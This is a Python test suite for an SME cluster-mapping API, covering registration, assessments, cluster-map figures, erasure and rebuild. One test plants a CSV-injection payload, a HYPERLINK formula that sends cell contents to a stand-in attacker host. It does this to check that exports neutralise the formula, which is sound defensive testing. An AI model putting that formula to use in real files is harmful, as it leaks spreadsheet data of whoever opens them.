"""The mapping API through the embedded gateway: registry, assessments, cluster map, erasure, rebuild."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from clustergrowth.bus.sqlite import SqliteBus
from clustergrowth.settings import RuntimeSettings
from clustergrowth.store.sqlite import SqliteStore
from instance.app import create_app
from services.mapping.consumers import rebuild
from services.mapping.domain.instrument import instrument
from tests.conftest import TokenFactory, asgi_client

API = "/api/v1/mapping"


@pytest.fixture
def bare(tmp_path: Path) -> RuntimeSettings:
    return RuntimeSettings(data_dir=tmp_path / "data", seed_demo=False, relay_interval_s=0.05)


@pytest.fixture
def tok(bare: RuntimeSettings) -> TokenFactory:
    from clustergrowth.auth import DevIssuer

    issuer = DevIssuer(bare.data_dir)

    def make(sub: str, *roles: str, org: str | None = None) -> str:
        return "Bearer " + issuer.mint(bare, sub, list(roles), "IE05", org)

    return make


@pytest.fixture
async def client(bare: RuntimeSettings) -> AsyncIterator[httpx.AsyncClient]:
    async for c in asgi_client(create_app(bare)):
        yield c


def sme(**over: Any) -> dict[str, Any]:
    body = {
        "legal_name": "Rubicon Precision Ltd",
        "country": "IE",
        "region": "IE05",
        "nuts3": "IE053",
        "nace_primary": "C28.29",
        "headcount": 40,
        "turnover_eur": 6e6,
        "balance_sheet_eur": 4e6,
        "founded": 2009,
        "councils": ["Cork"],
        "contact": {"name": "Aoife Example", "email": "aoife@example.org"},
        "consent": {"lawful_basis": "consent"},
    }
    return {**body, **over}


def answers(value: int, **over: int) -> dict[str, int]:
    out = {q: value for q in instrument("1").question_ids}
    out.update({k.replace("_", "-"): v for k, v in over.items()})
    return out


def problem(r: httpx.Response, status: int) -> dict[str, Any]:
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = r.json()
    return body


async def until(client: httpx.AsyncClient, headers: dict[str, str], check: Any) -> Any:
    for _ in range(100):
        cells = (await client.get(f"{API}/cluster-map", headers=headers)).json()
        if check(cells):
            return cells
        await asyncio.sleep(0.05)
    raise AssertionError(f"cluster map never got there: {cells}")


async def test_register_computes_size_class_and_bad_codes_name_the_field(
    client: httpx.AsyncClient, tok: TokenFactory
) -> None:
    h = {"Authorization": tok("aoife", "sme_member", org="rubicon")}
    r = await client.post(f"{API}/smes", json=sme(), headers=h)
    assert r.status_code == 201, r.text
    assert r.json()["size_class"] == "small" and r.json()["sector"] == "C28"
    cases = [
        (sme(region="IE99"), "region"),
        (sme(nace_primary="C99.99"), "nace_primary"),
        (sme(nuts3="ITH55"), "nuts3"),
        (sme(country="FR"), "country"),
        (sme(size_class="micro"), "size_class"),
        (sme(nace_secondary=["X1"]), "nace_secondary"),
        (sme(contact={"name": "x", "email": "nope"}), "contact.email"),
        (sme(founded=2999), "founded"),
    ]
    for body, field in cases:
        p = problem(await client.post(f"{API}/smes", json=body, headers=h), 422)
        assert field in {e["field"] for e in p["errors"]}, (field, p)
    assert len((await client.get(f"{API}/smes", headers=h)).json()) == 1  # nothing half-written
    problem(await client.post(f"{API}/smes", json=sme(), headers={"Authorization": tok("s", "student")}), 403)


async def test_assessment_validation_scoring_history_and_privacy(client: httpx.AsyncClient, tok: TokenFactory) -> None:
    h = {"Authorization": tok("aoife", "sme_member", org="rubicon")}
    sid = (await client.post(f"{API}/smes", json=sme(), headers=h)).json()["id"]
    url = f"{API}/smes/{sid}/assessments"
    p = problem(await client.post(url, json={"instrument_version": "9", "answers": answers(3)}, headers=h), 422)
    assert p["errors"][0]["field"] == "instrument_version"
    bad = answers(3)
    del bad["talent-1"]
    bad["finance-2"] = 6
    p = problem(await client.post(url, json={"instrument_version": "1", "answers": bad}, headers=h), 422)
    assert {e["field"] for e in p["errors"]} == {"answers.talent-1", "answers.finance-2"}
    assert (await client.get(url, headers=h)).json() == []
    r = await client.post(
        url, json={"instrument_version": "1", "answers": answers(4, finance_1=1, finance_2=1)}, headers=h
    )
    assert r.status_code == 201 and r.json()["top_needs"][0] == "finance"
    await client.post(url, json={"instrument_version": "2", "answers": answers(4)}, headers=h)
    history = (await client.get(url, headers=h)).json()
    assert [a["instrument_version"] for a in history] == ["1", "2"] and history[0]["scores"]["finance"] == 2.0
    other = {"Authorization": tok("mallory", "sme_member", org="elsewhere")}
    problem(await client.get(f"{API}/smes/{sid}", headers=other), 404)
    problem(await client.post(url, json={"instrument_version": "1", "answers": answers(3)}, headers=other), 404)


async def test_cluster_map_matches_a_hand_calculation_then_forgets_an_erased_sme(
    client: httpx.AsyncClient, tok: TokenFactory, bare: RuntimeSettings
) -> None:
    admin = {"Authorization": tok("coordinator", "region_admin")}
    csv_text = (
        "region,sector,employees\nIE05,C28,1000\nIE05,C26,1000\nITH5,C28,4000\n"
        "ITH5,C26,500\nFR10,C28,100\nFR10,C26,3000\n"
    )
    bad = await client.post(
        f"{API}/employment-statistics",
        content="region,sector,employees\nXX99,C28,ten\n",
        headers={**admin, "Content-Type": "text/csv"},
    )
    assert {e["field"] for e in problem(bad, 422)["errors"]} == {"line 2.region", "line 2.employees"}
    binary = await client.post(
        f"{API}/employment-statistics", content=b"\xfa\xa1\xf1region", headers={**admin, "Content-Type": "text/csv"}
    )
    assert problem(binary, 422)["errors"][0]["field"] == "csv"  # found by the fuzzer: was a 500
    for text, field in [("region,sector,employees\nIE05\n", "line 2.sector"), ("a\rb\x00,\n", "csv")]:
        r = await client.post(
            f"{API}/employment-statistics", content=text, headers={**admin, "Content-Type": "text/csv"}
        )
        assert field in {e["field"] for e in problem(r, 422)["errors"]}, (text, r.text)
    r = await client.post(
        f"{API}/employment-statistics", content=csv_text, headers={**admin, "Content-Type": "text/csv"}
    )
    assert r.json() == {"imported": 6}
    sid = (await client.post(f"{API}/smes", json=sme(), headers=admin)).json()["id"]
    await client.post(
        f"{API}/smes/{sid}/assessments",
        headers=admin,
        json={"instrument_version": "1", "answers": answers(4, talent_1=1, talent_2=1, talent_3=2)},
    )
    cells = await until(client, admin, lambda cs: any(c["assessed_smes"] for c in cs))
    by = {(c["region"], c["sector"]): c for c in cells}
    fr = by[("FR10", "C26")]["strength"]
    assert fr["stars"] == 3
    assert fr["specialisation"]["location_quotient"] == pytest.approx((3000 / 3100) / (4500 / 9640), abs=1e-4)
    ie = by[("IE05", "C28")]
    assert ie["strength"]["employment"] == {"statistics": 1000, "smes": 40, "total": 1040}
    assert ie["top3_share"]["talent"] == 1.0 and ie["mean_scores"]["talent"] == pytest.approx(1.33, abs=0.01)
    csv_out = await client.get(f"{API}/cluster-map", params={"format": "csv"}, headers=admin)
    assert csv_out.headers["content-type"].startswith("text/csv") and "FR10,C26" in csv_out.text
    svg = await client.get(f"{API}/cluster-map.svg", headers=admin)
    assert svg.headers["content-type"] == "image/svg+xml" and svg.text.startswith("<svg") and "IE05" in svg.text
    spot = (await client.get(f"{API}/spotlight", params={"region": "IE05"}, headers=admin)).json()
    assert spot["needs"][0]["dimension"] == "talent"
    bars = await client.get(f"{API}/spotlight.svg", params={"region": "IE05"}, headers=admin)
    assert "<rect" in bars.text
    spot_csv = await client.get(f"{API}/spotlight", params={"region": "IE05", "format": "csv"}, headers=admin)
    assert spot_csv.text.splitlines()[1].startswith("IE05,,talent,")
    council = (await client.get(f"{API}/spotlight", params={"council": "Cork"}, headers=admin)).json()
    assert council["assessed_smes"] == 1

    exported = await client.get(f"{API}/smes/{sid}/export", headers=admin)
    assert exported.json()["contact"]["email"] == "aoife@example.org" and len(exported.json()["assessments"]) == 1
    assert (await client.delete(f"{API}/smes/{sid}", headers=admin)).status_code == 204
    problem(await client.get(f"{API}/smes/{sid}", headers=admin), 404)
    await until(client, admin, lambda cs: all(c["smes"] == 0 for c in cs))

    # A rebuild from the event log gives the same map (replay)
    before = (await client.get(f"{API}/cluster-map", headers=admin)).json()
    store, bus = SqliteStore(bare.data_dir / "store" / "mapping.sqlite"), SqliteBus(bare.data_dir / "events.sqlite")
    try:
        report = await rebuild(store, bus, ["mapping.events"])
    finally:
        await bus.close()
        await store.close()
    assert report["generation"] == 2 and report["events"] == 3
    assert (await client.get(f"{API}/cluster-map", headers=admin)).json() == before


async def test_bad_query_input_is_422_naming_the_field(client: httpx.AsyncClient, tok: TokenFactory) -> None:
    h = {"Authorization": tok("ana", "analyst")}
    for url, params, field in [
        (f"{API}/cluster-map", {"format": "xml"}, "format"),
        (f"{API}/cluster-map", {"region": "XX99"}, "region"),
        (f"{API}/spotlight", {"region": "Cork"}, "region"),
        (f"{API}/spotlight.svg", {}, "region"),
        (f"{API}/smes", {"limit": 0}, "limit"),
    ]:
        p = problem(await client.get(url, params=params, headers=h), 422)
        assert field in {e["field"] for e in p["errors"]}, (url, params, p)
    p = problem(await client.get(f"{API}/instruments/9", headers=h), 422)
    assert p["errors"][0]["field"] == "instrument_version"
    problem(await client.get(f"{API}/cluster-map"), 401)


async def test_a_csv_download_writes_typed_in_formulas_as_text(client: httpx.AsyncClient, tok: TokenFactory) -> None:
    """A council is whatever its SME typed; a spreadsheet must not run it (OWASP CSV injection). The
    platform's own numbers, negative ones too, stay numbers."""
    admin = {"Authorization": tok("coordinator", "region_admin")}
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Cork")'
    weak = (await client.post(f"{API}/smes", json=sme(councils=[formula]), headers=admin)).json()["id"]
    strong = (await client.post(f"{API}/smes", json=sme(legal_name="Strong Ltd"), headers=admin)).json()["id"]
    for sid, value in ((weak, 1), (strong, 5)):
        r = await client.post(
            f"{API}/smes/{sid}/assessments", json={"instrument_version": "1", "answers": answers(value)}, headers=admin
        )
        assert r.status_code == 201, r.text
    await until(client, admin, lambda cs: sum(c["assessed_smes"] for c in cs) == 2)
    r = await client.get(f"{API}/spotlight", params={"council": formula, "format": "csv"}, headers=admin)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][:4] == ["region", "council", "dimension", "mean_maturity"] and len(rows) > 1
    gap = rows[0].index("gap_to_network")
    for row in rows[1:]:
        assert row[1] == "'" + formula, row
        assert row[gap].startswith("-") and float(row[gap]) < 0, row  # the platform's number, as written


async def test_cluster_map_pages_follow_their_links_to_the_whole_map(
    client: httpx.AsyncClient, tok: TokenFactory
) -> None:
    # the map is paged in memory; each page says where the next one is until the last
    h = {"Authorization": tok("aoife", "sme_member", org="rubicon")}
    for nace in ("C28.29", "C25.62", "C26.51"):
        r = await client.post(f"{API}/smes", json=sme(nace_primary=nace), headers=h)
        assert r.status_code == 201, r.text
    admin = {"Authorization": tok("coordinator", "region_admin")}
    whole = await until(client, admin, lambda cs: sum(c["smes"] for c in cs) == 3)
    assert [(c["region"], c["sector"]) for c in whole] == [("IE05", "C25"), ("IE05", "C26"), ("IE05", "C28")]
    seen: list[dict[str, Any]] = []
    url: str | None = f"{API}/cluster-map?limit=1"
    while url is not None:
        r = await client.get(url, headers=admin)
        assert r.status_code == 200 and r.headers["content-type"] == "application/json"
        seen += r.json()
        url = r.links["next"]["url"] if "next" in r.links else None
        assert len(seen) <= 3, "a page came twice"
    assert seen == whole  # three pages of one cell, then no Link
